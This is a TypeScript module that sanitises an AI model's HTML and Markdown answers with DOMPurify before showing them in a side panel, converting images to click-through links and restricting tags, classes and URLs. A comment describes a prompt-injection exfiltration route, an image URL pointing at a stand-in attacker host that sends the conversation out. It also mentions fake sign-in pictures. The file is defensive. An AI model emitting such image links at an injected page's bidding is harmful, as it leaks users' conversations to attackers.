import DOMPurify from 'dompurify';
import { ANSWER_ATTRIBUTES } from './answer-allowlist';
import { prefilterHtml } from './prefilter-html';
import { IMAGE_LINK_SCHEMES, safeLinkUrl } from './safe-link-url';

const ATTRIBUTES_BY_TAG = ANSWER_ATTRIBUTES;
const ALLOWED_TAGS = Object.keys(ATTRIBUTES_BY_TAG);
const ALLOWED_ATTR = [...new Set(Object.values(ATTRIBUTES_BY_TAG).flat())];

/** Only these schemes survive in an href; DOMPurify checks it again after our own parse. */
const ALLOWED_URI_REGEXP = /^(?:https?|mailto):/i;

/**
 * Class names highlight.js emits (`hljs`, `hljs-keyword`, the `language-ts` we add, and its
 * sub-scopes, which end in one `_` per level, e.g. `hljs-title function_ invoke__`). Anything else would let an answer
 * borrow the panel's own styles (`class="alert"`, `class="visually-hidden"`); theme.css is checked
 * to define no class of this shape outside `.hljs` (test/unit/markdown-sanitize.test.ts).
 */
export const ANSWER_CLASS = /^(?:hljs(?:-[a-z0-9_-]+)?|language-[a-z0-9+#._-]+|[a-z]+_{1,3})$/;

const ATTRIBUTE_VALUE: Readonly<Record<string, (value: string) => string | undefined>> = {
  class: (value) => value.split(/\s+/).filter((name) => ANSWER_CLASS.test(name)).join(' ') || undefined,
  align: (value) => (/^(?:left|center|right)$/i.test(value) ? value.toLowerCase() : undefined),
  start: (value) => (/^\d{1,9}$/.test(value) ? value : undefined),
  href: (value) => safeLinkUrl(value)?.href,
};

/**
 * A remote image becomes a link that names its host, fetched only if the user clicks it: an image
 * in an answer is the known way a prompt-injected page makes the panel send the conversation to
 * its server, with no click (`![](https://attacker/?q=…)`). `data:` images are not drawn either:
 * they make no request, but a picture can imitate the panel's own controls (a fake "Sign in again"),
 * which contained, unstyled text cannot, and answers have no need for inline pictures.
 */
function imageStandIn(img: Element): Node[] {
  const doc = img.ownerDocument;
  const alt = img.getAttribute('alt')?.replace(/\s+/g, ' ').trim();
  const url = safeLinkUrl(img.getAttribute('src'), IMAGE_LINK_SCHEMES);
  if (!url) return [doc.createTextNode(alt ? `[Image: ${alt}]` : '[Image]')];
  const label = `Image from ${url.host}`;
  const rest = alt ? [doc.createTextNode(` (${alt})`)] : [];
  // Inside a link already: a link in a link would not survive the HTML parser; the outer one stays.
  if (img.closest('a')) return [doc.createTextNode(label), ...rest];
  const link = doc.createElement('a');
  link.setAttribute('href', url.href);
  link.textContent = label;
  return [link, ...rest];
}

/** A task-list checkbox from GFM (`- [x]`) or raw HTML: a glyph, as no input may come from an answer. */
function checkboxStandIn(input: Element): Node[] {
  if (input.getAttribute('type')?.toLowerCase() !== 'checkbox') return [];
  return [input.ownerDocument.createTextNode(input.hasAttribute('checked') ? '☑' : '☐')];
}

const STAND_INS: Readonly<Record<string, (element: Element) => Node[]>> = { img: imageStandIn, input: checkboxStandIn };

// One instance of our own, so these hooks and this configuration apply to answers only.
const purify = DOMPurify(window);

// The configuration, read once: passed to each sanitize() call, DOMPurify would parse it again every
// time (a copy of it and a new set for every list in it: a fifth of the V8 bytes rendering an answer
// allocated, bench/NOTES.md session 11 gc7). This instance is ours alone, so no other caller can
// sanitise with it and expect DOMPurify's defaults; sanitize() is called with no configuration.
purify.setConfig({
  ALLOWED_TAGS,
  ALLOWED_ATTR,
  ALLOWED_URI_REGEXP,
  // Checked by value in the hook below; without this DOMPurify would test them as URIs.
  ADD_URI_SAFE_ATTR: ['align', 'start'],
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  ALLOW_UNKNOWN_PROTOCOLS: false,
  RETURN_DOM_FRAGMENT: true,
});

// The element is swapped for its stand-in in DOMPurify's inert document (nothing loads there);
// DOMPurify then treats the element as removed and walks on into the stand-in, which goes through
// the same allowlist and hooks as the rest.
purify.addHook('uponSanitizeElement', (node, data) => {
  const standIn = STAND_INS[data.tagName];
  if (standIn && node.nodeType === Node.ELEMENT_NODE) (node as Element).replaceWith(...standIn(node as Element));
});

purify.addHook('uponSanitizeAttribute', (node, data) => {
  const allowed = ATTRIBUTES_BY_TAG[node.nodeName.toLowerCase()]?.includes(data.attrName);
  const value = allowed ? ATTRIBUTE_VALUE[data.attrName]?.(data.attrValue) : undefined;
  if (value === undefined) data.keepAttr = false;
  else data.attrValue = value;
});

/**
 * A link's tooltip is where it goes. An answer's own `title` (Markdown's `[docs](url "title")`) is
 * dropped by the allowlist: it is shown where a user looks to check a link, so it could name
 * another site than the one the link opens. A link whose text is its URL needs no tooltip.
 */
function titleOfLink(link: Element, href: string): string | undefined {
  const text = link.textContent?.trim() ?? '';
  return text === href || safeLinkUrl(text)?.href === href ? undefined : href;
}

// Every link an answer contains opens in a new tab, never in the side panel, and tells the target nothing.
purify.addHook('afterSanitizeAttributes', (node) => {
  const href = node.nodeName === 'A' ? (node as Element).getAttribute('href') : null;
  if (href === null) return;
  (node as Element).setAttribute('target', '_blank');
  (node as Element).setAttribute('rel', 'noopener noreferrer');
  const title = titleOfLink(node as Element, href);
  if (title) (node as Element).setAttribute('title', title);
});

/**
 * DOMPurify's part alone: HTML to a fragment of DOMPurify's inert document (nothing in it loads or
 * runs until the caller serialises it) holding only the allowlist. A link whose URL was refused is
 * unwrapped to its text, so it is not shown as a link that goes nowhere. It is safe on its own
 * (the unit tests run every hostile input through it without the prefilter).
 */
export function purifyAnswerHtml(html: string): DocumentFragment {
  // A fragment, by setConfig's RETURN_DOM_FRAGMENT (DOMPurify's types only read a configuration passed here).
  // The doctype makes DOMPurify's parse a standards-mode one, as the panel's and every later parse of
  // the answer (rendered-answers.ts) are: in quirks mode a `<table>` does not close an open `p`, so
  // the same raw HTML would nest one way now and another when mounted again.
  const fragment = purify.sanitize(`<!doctype html>${html}`) as unknown as DocumentFragment | null;
  // Null when the HTML parses to a frameset (no body): nothing of it would be shown anyway.
  if (!fragment) return document.implementation.createHTMLDocument('').createDocumentFragment();
  for (const link of fragment.querySelectorAll('a:not([href])')) link.replaceWith(...link.childNodes);
  return fragment;
}

/**
 * Model output as HTML safe to insert in the panel: prefiltered off the DOM when it holds raw HTML
 * from the model (see prefilter-html.ts), then purified. Markdown's own output needs no prefilter
 * (it carries no style, on… or <base>), and skipping it keeps a streaming code block's render
 * as cheap as before.
 */
export function sanitizeAnswer(html: string, hasRawHtml = true): DocumentFragment {
  return purifyAnswerHtml(hasRawHtml ? prefilterHtml(html) : html);
}

/**
 * Several blocks of Markdown's own HTML (no raw HTML from the model: render.ts markdownHtml) through
 * the sanitiser in one call, as one fragment per block: what sanitising each alone gives, for one
 * DOMPurify document and tree walk instead of one per block (an answer's ~20 calls were most of
 * what is left of its garbage, collected mid-scroll: bench/NOTES.md, a 1,000-message conversation).
 *
 * Each block goes in a `blockquote` of its own (an allowlisted element with no attributes, which the
 * hooks leave alone): markup that is whole elements and text stays inside its wrapper. If the
 * wrappers do not come back as the top level, one per block (a block that was not whole: an
 * unclosed element, a comment), some block's nodes moved into another's, so each is sanitised alone
 * instead. Blocks with raw HTML do not come here: they need the prefilter, and could be crafted to
 * reach across.
 */
export function sanitizeMarkdownBlocks(blocks: readonly string[]): DocumentFragment[] {
  const eachAlone = () => blocks.map((html) => purifyAnswerHtml(html));
  if (blocks.length < 2) return eachAlone();
  const joined = purifyAnswerHtml(blocks.map((html) => `<blockquote>${html}</blockquote>`).join(''));
  const wrappers = [...joined.childNodes];
  if (wrappers.length !== blocks.length || wrappers.some((node) => node.nodeName !== 'BLOCKQUOTE')) return eachAlone();
  return wrappers.map((wrapper) => {
    const fragment = joined.ownerDocument.createDocumentFragment();
    fragment.append(...wrapper.childNodes);
    return fragment;
  });
}
